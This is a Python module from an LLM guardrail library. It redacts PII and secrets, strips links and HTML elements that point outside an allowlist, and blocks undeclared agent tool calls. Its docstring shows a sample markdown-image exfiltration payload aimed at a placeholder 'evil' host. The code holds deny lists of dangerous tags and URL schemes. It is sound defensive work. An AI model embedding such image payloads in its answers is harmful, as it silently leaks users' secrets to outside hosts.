"""LLM output stages: PII and secret redaction, link and HTML stripping, tool allowlists.

- :class:`PiiRedactionFilter` finds entities with the privacy room's recognizers
  (:class:`bastion.privacy.pii.Analyzer`) and rewrites them with its de-identification
  operators (``<ENTITY_TYPE>`` replacement by default). OWASP LLM02:2025, ATLAS AML.T0057.
- :class:`LinkFilter` removes markdown images and links, autolinks and HTML elements
  (img, a, iframe, script, object, embed, form, ...) whose URLs point outside an allowlist
  of hosts: a rendered image is fetched at once, so ``![](https://evil/?q=<secret>)`` is a
  zero-click exfiltration channel. OWASP LLM05:2025, ATLAS AML.T0077.
- :class:`ToolCallFilter` blocks tool calls the agent is not declared to make (from the
  system manifest: the tools its flows reach). OWASP LLM06:2025, ATLAS AML.T0053.
"""

from __future__ import annotations

import bisect
import re
import urllib.parse
from collections import Counter
from collections.abc import Iterable, Mapping, Sequence

from bastion.core.errors import InputError
from bastion.guard.interface import FilterResult, GuardRequest, Response, StageResult, Verdict
from bastion.manifest import AssetKind, SystemManifest
from bastion.privacy.deid import Operator, ReplaceOp
from bastion.privacy.pii import Analyzer

__all__ = [
    "ATLAS_AGENT_TOOL",
    "ATLAS_DATA_LEAKAGE",
    "LinkFilter",
    "PiiRedactionFilter",
    "ToolCallFilter",
    "host_allowed",
]

OWASP_SENSITIVE_DISCLOSURE = "LLM02:2025"
OWASP_OUTPUT_HANDLING = "LLM05:2025"
OWASP_EXCESSIVE_AGENCY = "LLM06:2025"
ATLAS_DATA_LEAKAGE = "AML.T0057"  # LLM Data Leakage
ATLAS_RENDERING = "AML.T0077"  # LLM Response Rendering
ATLAS_AGENT_TOOL = "AML.T0053"  # AI Agent Tool Invocation
MAX_OUTPUT_CHARS = 1_000_000


def _too_long(name: str, text: str) -> FilterResult | None:
    if len(text) > MAX_OUTPUT_CHARS:
        return FilterResult(
            name, Verdict.BLOCK, reasons=(f"refused: completion longer than {MAX_OUTPUT_CHARS}",)
        )
    return None


# -- PII and secrets ----------------------------------------------------------------------


class PiiRedactionFilter:
    """Redact PII and secrets in completions (an OutputFilter).

    ``analyzer``: the privacy room's analyzer (all built-in recognizers by default);
    ``operators``: per entity type, the de-identification operator to apply (default
    ``ReplaceOp("<TYPE>")``); ``block``: entity types whose presence blocks the answer
    instead (e.g. ``PRIVATE_KEY``)."""

    def __init__(
        self,
        analyzer: Analyzer | None = None,
        *,
        operators: Mapping[str, Operator] | None = None,
        block: Iterable[str] = (),
        name: str = "pii_redaction",
    ) -> None:
        self.analyzer = analyzer or Analyzer()
        self.operators = dict(operators or {})
        self.block = frozenset(block)
        self.name = name

    def _op(self, entity: str) -> Operator:
        op = self.operators.get(entity)
        if op is None:
            op = self.operators[entity] = ReplaceOp(f"<{entity}>")
        return op

    def redact(self, text: str) -> tuple[str, Counter[str]]:
        """The text with every entity rewritten, and the counts per entity type."""
        found = self.analyzer.analyze(text)
        counts: Counter[str] = Counter()
        parts: list[str] = []
        pos = 0
        for e in found:  # in order of position, without overlaps
            parts.append(text[pos : e.start])
            parts.append(self._op(e.entity_type).one(text[e.start : e.end]))
            pos = e.end
            counts[e.entity_type] += 1
        parts.append(text[pos:])
        return "".join(parts), counts

    def filter(self, request: GuardRequest, response: Response) -> FilterResult:
        text = response.text
        if not text:
            return FilterResult(self.name)
        refused = _too_long(self.name, text)
        if refused is not None:
            return refused
        redacted, counts = self.redact(text)
        if not counts:
            return FilterResult(self.name)
        blocked = sorted(set(counts) & self.block)
        what = ", ".join(f"{n} {t}" for t, n in sorted(counts.items()))
        if blocked:
            return FilterResult(
                self.name,
                Verdict.BLOCK,
                None,
                (f"[{OWASP_SENSITIVE_DISCLOSURE}] {ATLAS_DATA_LEAKAGE}: the completion "
                 f"contains {', '.join(blocked)}; refused",),
                dict(counts),
            )  # fmt: skip
        return FilterResult(
            self.name,
            Verdict.ALLOW,
            redacted,
            (f"[{OWASP_SENSITIVE_DISCLOSURE}] {ATLAS_DATA_LEAKAGE}: redacted {what}",),
            dict(counts),
        )


# -- links and HTML -----------------------------------------------------------------------

_SAFE_SCHEMES = frozenset({"http", "https", "ftp", "ws", "wss", ""})
# a link destination: no spaces, balanced parentheses one level deep (CommonMark allows them)
_DEST = r"\s*<?((?:[^()\s<>]|\([^()\s]*\))*)>?(?:\s+[\"'(][^)\n]*[\"')])?\s*\)"
_MD_DEST = re.compile(r"\]\(" + _DEST)
_MD_REF_DEF = re.compile(r"(?m)^[ \t]{0,3}\[([^\]\n]+)\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$")
_AUTOLINK = re.compile(r"<((?:[a-zA-Z][a-zA-Z0-9+.-]{1,31}:|//)[^<>\s]+)>")
_MAX_TAG = 8192  # a tag's attributes longer than this are not parsed: the tag is escaped
_BLOCKS = "script|iframe|object|embed|style|noscript|svg|math|template"
_BLOCK_OPEN = re.compile(rf"<\s*({_BLOCKS})\b", re.IGNORECASE)
_BLOCK_CLOSE = re.compile(rf"<\s*/\s*({_BLOCKS})\s*>", re.IGNORECASE)
_TAGS = (
    "img|a|iframe|script|object|embed|form|input|button|link|meta|base|source|video|audio|"
    "picture|frame|frameset|image|svg|use|style|area|track|body|table|td|div"
)
_TAG = re.compile(rf"<\s*(/?)\s*({_TAGS})\b", re.IGNORECASE)
_GT = re.compile(">")
_ALWAYS_BLOCK = frozenset({"script", "object", "embed", "style", "svg", "math", "template",
                           "noscript"})  # fmt: skip
_ATTR = re.compile(
    r"""([a-zA-Z_:][-a-zA-Z0-9_:.]*)\s*=\s*("[^"]*"|'[^']*'|[^\s"'>]+)""", re.IGNORECASE
)
_URL_ATTRS = frozenset(
    {"src", "href", "srcset", "action", "formaction", "data", "poster", "background",
     "lowsrc", "ping", "xlink:href", "content", "srcdoc", "style", "codebase", "cite"}
)  # fmt: skip
_ALWAYS_STRIP = frozenset({"script", "object", "embed", "base", "meta", "frame", "frameset"})
_CSS_URL = re.compile(r"url\(\s*['\"]?([^'\")]+)", re.IGNORECASE)


def _next_gt(gts: list[int], start: int) -> int | None:
    """The first ``>`` at or after ``start`` and within :data:`_MAX_TAG` of it."""
    i = bisect.bisect_left(gts, start)
    if i == len(gts) or gts[i] - start > _MAX_TAG:
        return None
    return gts[i]


def host_allowed(url: str, allowed: Sequence[str], *, allow_relative: bool = True) -> bool:
    """Whether ``url`` points at an allowed host (``example.com`` exactly, ``*.example.com``
    for its subdomains). Relative URLs stay on the page's own origin; ``data:image/`` is
    inert; every other scheme (``javascript:``, ``data:text/html``, ``file:``) is refused."""
    u = re.sub(r"[\x00-\x20\x7f]", "", url).replace("\\", "/")
    if not u:
        return True
    low = u.lower()
    if low.startswith("data:"):
        return low.startswith("data:image/") and not low.startswith("data:image/svg")
    try:
        parts = urllib.parse.urlsplit(u)
    except ValueError:
        return False
    if parts.scheme.lower() not in _SAFE_SCHEMES:
        return False
    if not parts.netloc:
        return allow_relative and not parts.scheme and not u.startswith("//")
    try:
        host = urllib.parse.unquote(parts.hostname or "").rstrip(".").lower()
    except ValueError:
        return False
    if not host:
        return False
    try:
        host = host.encode("idna").decode("ascii")
    except UnicodeError:
        return False
    for entry in allowed:
        e = entry.lower().rstrip(".")
        if e.startswith("*."):
            if host.endswith(e[1:]) and host != e[2:]:
                return True
        elif host == e:
            return True
    return False


class LinkFilter:
    """Strip markdown images/links and HTML elements pointing outside ``allowed_hosts``
    (an OutputFilter). Link text is kept; images become ``[image removed]``. Script,
    object, embed, base and meta elements, and any tag with an ``on*`` event handler or a
    ``javascript:`` URL, are always removed."""

    def __init__(
        self,
        allowed_hosts: Iterable[str] = (),
        *,
        allow_relative: bool = True,
        name: str = "link_filter",
    ) -> None:
        hosts = []
        for h in allowed_hosts:
            if not isinstance(h, str) or not re.fullmatch(r"(\*\.)?[A-Za-z0-9.-]{1,253}", h):
                raise InputError(f"allowed_hosts: {h!r} is not a host name or *.domain")
            hosts.append(h.lower())
        self.allowed = tuple(hosts)
        self.allow_relative = allow_relative
        self.name = name

    def _ok(self, url: str) -> bool:
        return host_allowed(url, self.allowed, allow_relative=self.allow_relative)

    def _tag_ok(self, tag: str, attrs: str) -> bool:
        if tag in _ALWAYS_STRIP:
            return False
        for m in _ATTR.finditer(attrs):
            name = m.group(1).lower()
            value = m.group(2).strip("\"'")
            if name.startswith("on"):
                return False
            if name not in _URL_ATTRS:
                continue
            if name == "srcdoc":
                return False
            if name == "style":
                urls = _CSS_URL.findall(value)
            elif name == "srcset":
                urls = [c.strip().split(" ")[0] for c in value.split(",") if c.strip()]
            elif name == "content":
                urls = re.findall(r"url\s*=\s*(\S+)", value, re.IGNORECASE)
            else:
                urls = [value]
            if not all(self._ok(u) for u in urls):
                return False
        return True

    def clean(self, text: str) -> tuple[str, Counter[str]]:
        """The text with everything pointing outside the allowlist removed, and counts.
        Linear in the text: no pattern here scans further than a bounded window."""
        changes: Counter[str] = Counter()

        def refdef(m: re.Match[str]) -> str:
            if self._ok(m.group(2)):
                return m.group(0)
            changes["link_reference"] += 1
            return ""

        def autolink(m: re.Match[str]) -> str:
            if self._ok(m.group(1)):
                return m.group(0)
            changes["link"] += 1
            return "[link removed]"

        out = self._strip_blocks(text, changes) if "<" in text else text
        if "<" in out:
            out = self._strip_tags(out, changes)
        if "](" in out:
            out = self._strip_inline(out, changes)
        if "]:" in out:
            out = _MD_REF_DEF.sub(refdef, out)
        if "<" in out:
            out = _AUTOLINK.sub(autolink, out)
        changes.pop("_open_a", None)
        return out, changes

    def _strip_blocks(self, text: str, changes: Counter[str]) -> str:
        """Remove script/iframe/object/... elements with their content (to the end of the
        text when one is never closed, as a browser would swallow it)."""
        closes: dict[str, list[int]] = {}
        ends: dict[int, int] = {}
        for c in _BLOCK_CLOSE.finditer(text):
            closes.setdefault(c.group(1).lower(), []).append(c.start())
            ends[c.start()] = c.end()
        gts = [g.start() for g in _GT.finditer(text)]
        parts: list[str] = []
        pos = 0
        for m in _BLOCK_OPEN.finditer(text):
            if m.start() < pos:
                continue  # inside an element already removed
            name = m.group(1).lower()
            gt = _next_gt(gts, m.end())
            if (
                name not in _ALWAYS_BLOCK
                and gt is not None
                and self._tag_ok(name, text[m.end() : gt])
            ):
                continue
            changes[f"html_{name}"] += 1
            parts.append(text[pos : m.start()])
            starts = closes.get(name, [])
            i = bisect.bisect_left(starts, m.end())
            pos = ends[starts[i]] if i < len(starts) and gt is not None else len(text)
        parts.append(text[pos:])
        return "".join(parts)

    def _strip_tags(self, text: str, changes: Counter[str]) -> str:
        """Single tags (img, a, form, ...) outside the allowlist removed (``a`` keeps its
        text, ``img`` leaves ``[image removed]``); a tag whose ``>`` is not within reach
        is escaped, so no renderer reads it as a tag (fail closed). Linear: the next ``>``
        of each tag is found by bisection."""
        gts = [g.start() for g in _GT.finditer(text)]
        parts: list[str] = []
        pos = 0
        open_a = 0
        for m in _TAG.finditer(text):
            if m.start() < pos:
                continue
            gt = _next_gt(gts, m.end())
            if gt is None:
                changes["html_unparsed"] += 1
                parts += [text[pos : m.start()], "&lt;"]
                pos = m.start() + 1
                continue
            closing, name = m.group(1), m.group(2).lower()
            if closing:
                if name == "a" and open_a:
                    open_a -= 1
                    parts.append(text[pos : m.start()])
                    pos = gt + 1
                continue
            if self._tag_ok(name, text[m.end() : gt]):
                continue
            changes[f"html_{name}"] += 1
            open_a += name == "a"
            parts += [text[pos : m.start()], "[image removed]" if name == "img" else ""]
            pos = gt + 1
        parts.append(text[pos:])
        return "".join(parts)

    def _strip_inline(self, text: str, changes: Counter[str]) -> str:
        """Markdown ``[text](url)`` and ``![alt](url)`` outside the allowlist: found from
        their ``](url)`` (linear), the opening bracket looked for within 1,000 characters."""
        edits: list[tuple[int, int, str]] = []
        last = 0
        for m in _MD_DEST.finditer(text):
            if self._ok(m.group(1)):
                last = m.end()
                continue
            o = text.rfind("[", max(last, m.start() - 1000), m.start())
            if o > last and text[o - 1] == "!":
                edits.append((o - 1, m.end(), "[image removed]"))
                changes["image_link"] += 1
            elif o >= last and o != -1:
                edits.append((o, m.end(), text[o + 1 : m.start()]))
                changes["link"] += 1
            else:  # no opening bracket in reach: the destination goes all the same
                edits.append((m.start(), m.end(), "]"))
                changes["link"] += 1
            last = m.end()
        if not edits:
            return text
        parts, pos = [], 0
        for a, b, rep in edits:
            parts += [text[pos:a], rep]
            pos = b
        parts.append(text[pos:])
        return "".join(parts)

    def filter(self, request: GuardRequest, response: Response) -> FilterResult:
        text = response.text
        if not text:
            return FilterResult(self.name)
        refused = _too_long(self.name, text)
        if refused is not None:
            return refused
        if "](" not in text and "<" not in text and "]:" not in text:
            return FilterResult(self.name)
        out, changes = self.clean(text)
        if not changes:
            return FilterResult(self.name)
        what = ", ".join(f"{n} {k}" for k, n in sorted(changes.items()))
        return FilterResult(
            self.name,
            Verdict.ALLOW,
            out,
            (f"[{OWASP_OUTPUT_HANDLING}] {ATLAS_RENDERING}: removed {what} pointing outside "
             "the allowed hosts",),
            dict(changes),
        )  # fmt: skip


# -- tool calls ---------------------------------------------------------------------------


class ToolCallFilter:
    """Block tool calls outside an agent's allowlist, in the request (an InputDetector)
    and in the answer (an OutputFilter). An empty allowlist allows no tool at all."""

    def __init__(
        self,
        allowed: Iterable[str],
        *,
        max_calls: int | None = None,
        name: str = "tool_allowlist",
    ) -> None:
        self.allowed = frozenset(str(a) for a in allowed)
        if max_calls is not None and (isinstance(max_calls, bool) or max_calls < 0):
            raise InputError("max_calls: expected a non-negative integer")
        self.max_calls = max_calls
        self.name = name

    @classmethod
    def from_manifest(
        cls, manifest: SystemManifest, agent_id: str, *, name: str = "tool_allowlist"
    ) -> ToolCallFilter:
        """The tools the manifest's flows let ``agent_id`` reach: each tool asset's id and
        its ``tool_action`` property; ``max_tool_calls`` from the agent's properties."""
        agent = manifest.asset(agent_id)
        if agent.kind is not AssetKind.AGENT:
            raise InputError(f"asset '{agent_id}' is a {agent.kind.value}, not an agent")
        allowed: set[str] = set()
        for flow in manifest.flows_from(agent_id):
            target = manifest.asset(flow.target)
            if target.kind is AssetKind.TOOL:
                allowed.add(target.id)
                action = target.properties.get("tool_action")
                if isinstance(action, str):
                    allowed.add(action)
        cap = agent.properties.get("max_tool_calls")
        max_calls = cap if isinstance(cap, int) and not isinstance(cap, bool) else None
        return cls(allowed, max_calls=max_calls, name=name)

    def _judge(self, calls: Sequence[str]) -> tuple[Verdict, tuple[str, ...]]:
        bad = [c for c in calls if c not in self.allowed]
        reasons: list[str] = []
        if bad:
            shown = ", ".join(repr(c[:64]) for c in bad[:5])
            reasons.append(
                f"[{OWASP_EXCESSIVE_AGENCY}] {ATLAS_AGENT_TOOL}: tool call(s) outside the "
                f"agent's allowlist: {shown}"
            )
        if self.max_calls is not None and len(calls) > self.max_calls:
            reasons.append(
                f"[{OWASP_EXCESSIVE_AGENCY}] {len(calls)} tool calls, more than the "
                f"{self.max_calls} declared"
            )
        return (Verdict.BLOCK if reasons else Verdict.ALLOW), tuple(reasons)

    def inspect(self, request: GuardRequest) -> StageResult:
        verdict, reasons = self._judge(request.tool_calls)
        techniques = (ATLAS_AGENT_TOOL,) if verdict is Verdict.BLOCK else ()
        return StageResult(self.name, verdict, float(verdict is Verdict.BLOCK), reasons,
                           techniques)  # fmt: skip

    def filter(self, request: GuardRequest, response: Response) -> FilterResult:
        verdict, reasons = self._judge(response.tool_calls)
        return FilterResult(self.name, verdict, None, reasons,
                            {"tool_call_refused": len(reasons)} if reasons else {})  # fmt: skip
